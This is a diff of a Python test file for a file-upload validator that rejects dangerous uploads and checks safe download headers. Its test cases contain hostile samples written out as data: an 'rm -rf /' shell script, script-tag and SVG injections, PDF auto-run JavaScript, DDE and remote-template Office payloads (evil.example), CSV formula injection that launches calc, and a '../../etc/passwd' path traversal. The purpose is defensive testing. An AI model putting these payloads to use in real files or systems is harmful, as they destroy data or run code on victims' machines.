@@ -18,14 +18,21 @@ from proxeny.kernel.models import StoredFile
 
 PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << >>\n%%EOF\n"
 PNG = (
-    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (2).to_bytes(4) + (3).to_bytes(4)
-    + b"\x08\x06\0\0\0\0\0\0\0" + b"\0\0\0\0IEND\xaeB`\x82"
-)  # fmt: skip
+    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"
+    + (2).to_bytes(4)
+    + (3).to_bytes(4)
+    + b"\x08\x06\0\0\0\0\0\0\0"
+    + b"\0\0\0\0IEND\xaeB`\x82"
+)
 JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 20 + b"\xff\xd9"
 WEBP = b"RIFF\x10\0\0\0WEBPVP8 " + b"\0" * 8
 RUNS, LOCKED, ELSE, HUGE, FORMULA = (
-    "can run when it is opened", "locked", "not what its name says", "unpacks to more", "formula",
-)  # fmt: skip
+    "can run when it’s opened",
+    "PDF is locked",
+    "isn’t what its name says",
+    "unpacks to more",
+    "formula",
+)
 
 
 def packed(**parts):
@@ -75,12 +82,24 @@ def object_stream(inside):
         ("notes.txt", "Καλημέρα".encode("utf-16"), "text/plain"),
         ("notes.txt", "Ελλάδα".encode("cp1253"), "text/plain"),
         ("list.csv", b"Name;Phone\nA;+33 1 23 45\nB;-12\nC;@handle\n", "text/csv"),
-        ("list.xlsx", workbook(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
-        ("text.docx", office(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+        (
+            "list.xlsx",
+            workbook(),
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+        ),
+        (
+            "text.docx",
+            office(),
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        ),
         ("text.odt", open_document(), "application/vnd.oasis.opendocument.text"),
-        ("slides.odp", open_document("presentation"), "application/vnd.oasis.opendocument.presentation"),
+        (
+            "slides.odp",
+            open_document("presentation"),
+            "application/vnd.oasis.opendocument.presentation",
+        ),
     ],
-)  # fmt: skip
+)
 def test_taken(name, content, media_type):
     assert check_file(name, content).media_type == media_type
 
@@ -89,24 +108,28 @@ def test_taken(name, content, media_type):
     ("name", "content", "sentence"),
     [
         ("empty.pdf", b"", "empty"),
-        ("large.txt", b"a" * (MAX_BYTES + 1), "11 MB; up to 10 MB"),
+        ("large.txt", b"a" * (MAX_BYTES + 1), "is 11 MB. The maximum for sharing is 10 MB"),
         ("page.html", b"<html>", RUNS),
         ("drawing.svg", b"<svg onload='x'/>", RUNS),
         ("run.exe", b"MZ", RUNS),
         ("macro.docm", office(), RUNS),
-        ("archive.zip", packed(a="b"), "cannot be shared"),
-        ("nothing", b"text", "cannot be shared"),
+        ("archive.zip", packed(a="b"), "this type can’t be shared"),
+        ("nothing", b"text", "this type can’t be shared"),
         ("page.txt", b"  <!DOCTYPE html><script>alert(1)</script>", RUNS),
         ("page.csv", b"a,b\n<script>alert(1)</script>", RUNS),
         ("run.txt", b"#!/bin/sh\nrm -rf /", RUNS),
         ("run.txt", b"MZ\x90\0\3", ELSE),
         ("page.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", ELSE),
-        ("page.pdf", b"<html>%PDF-1.7 %%EOF", "not a whole PDF"),
-        ("cut.pdf", PDF[:-8], "not a whole PDF"),
+        ("page.pdf", b"<html>%PDF-1.7 %%EOF", "isn’t a complete PDF"),
+        ("cut.pdf", PDF[:-8], "isn’t a complete PDF"),
         ("photo.jpg", PNG, ELSE),
         ("photo.webp", b"RIFF\0\0\0\0WAVE", ELSE),
         ("page.png", PNG + b"<script>alert(1)</script>", ELSE),
-        ("bomb.png", PNG.replace((2).to_bytes(4) + (3).to_bytes(4), b"\0\1\x86\xa0" * 2), "too large"),
+        (
+            "bomb.png",
+            PNG.replace((2).to_bytes(4) + (3).to_bytes(4), b"\0\1\x86\xa0" * 2),
+            "too large",
+        ),
         ("script.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), RUNS),
         ("script.pdf", pdf_with(b"/OpenAction << /S /#4Aava#53cript >>"), RUNS),
         ("launch.pdf", pdf_with(b"/OpenAction << /S /Launch >>"), RUNS),
@@ -114,7 +137,7 @@ def test_taken(name, content, media_type):
         ("bomb.pdf", object_stream(b"\0" * (101 << 20)), HUGE),
         ("locked.pdf", pdf_with(b"/Encrypt 5 0 R"), LOCKED),
         ("formula.csv", b"Name,Sum\nA,=1+1\n", FORMULA),
-        ("formula.csv", b"Name;Sum\nA;\"=HYPERLINK(1)\"\n", FORMULA),
+        ("formula.csv", b'Name;Sum\nA;"=HYPERLINK(1)"\n', FORMULA),
         ("formula.csv", b"Name\n+cmd|' /C calc'!A0\n", FORMULA),
         ("text.docx", workbook(), ELSE),
         ("text.docx", packed(a="b"), ELSE),
@@ -124,11 +147,26 @@ def test_taken(name, content, media_type):
         ("text.docx", office(**{"word/media/a.bin": b"\xd0\xcf\x11\xe0\xa1\xb1"}), RUNS),
         ("text.docx", office(**{"word/embeddings/a.bin": b"MZ\x90"}), RUNS),
         ("text.docx", office(**{"word/activeX/a.xml": "<a/>"}), RUNS),
-        ("text.docx", office(**{"word/document.xml": "<w:instrText>DDEAUTO c:\\\\x</w:instrText>"}), RUNS),
-        ("text.docx", office(**{"word/_rels/settings.xml.rels":
-            '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
-            ' TargetMode="External"/>'}), RUNS),
-        ("text.docx", office(**{"[Content_Types].xml": "wordprocessingml.document.main+xml macroEnabled"}), RUNS),
+        (
+            "text.docx",
+            office(**{"word/document.xml": "<w:instrText>DDEAUTO c:\\\\x</w:instrText>"}),
+            RUNS,
+        ),
+        (
+            "text.docx",
+            office(
+                **{
+                    "word/_rels/settings.xml.rels": '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
+                    ' TargetMode="External"/>'
+                }
+            ),
+            RUNS,
+        ),
+        (
+            "text.docx",
+            office(**{"[Content_Types].xml": "wordprocessingml.document.main+xml macroEnabled"}),
+            RUNS,
+        ),
         ("text.docx", office(**{"../../etc/passwd": "x"}), "damaged"),
         ("text.docx", office(**{f"word/{n}.xml": "" for n in range(MAX_PARTS)}), HUGE),
         ("bomb.docx", office(**{"word/document.xml": b"\0" * (101 << 20)}), HUGE),
@@ -137,9 +175,13 @@ def test_taken(name, content, media_type):
         ("text.odt", open_document("spreadsheet"), ELSE),
         ("text.odt", open_document(**{"Basic/Standard/Module1.xml": "Sub Main"}), RUNS),
         ("text.odt", open_document(**{"content.xml": "<script:event-listener/>"}), RUNS),
-        ("text.odt", open_document(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"}), LOCKED),
+        (
+            "text.odt",
+            open_document(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
+            "damaged or password-protected",
+        ),
     ],
-)  # fmt: skip
+)
 def test_refused_with_a_sentence(name, content, sentence):
     with pytest.raises(InvalidInput, match=sentence):
         check_file(name, content)
@@ -178,7 +220,9 @@ def test_a_download_is_saved_and_never_shown():
     response = answer_file(file)
     assert response.content == PDF
     assert response["Content-Type"] == "application/pdf"
-    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''%CE%A3")
+    assert response["Content-Disposition"] == (
+        "attachment; filename=\"schedio.pdf\"; filename*=UTF-8''%CE%A3%CF%87%CE%AD%CE%B4%CE%B9%CE%BF.pdf"
+    )
     assert response["X-Content-Type-Options"] == "nosniff"
     assert "sandbox" in response["Content-Security-Policy"]
     assert "default-src 'none'" in response["Content-Security-Policy"]
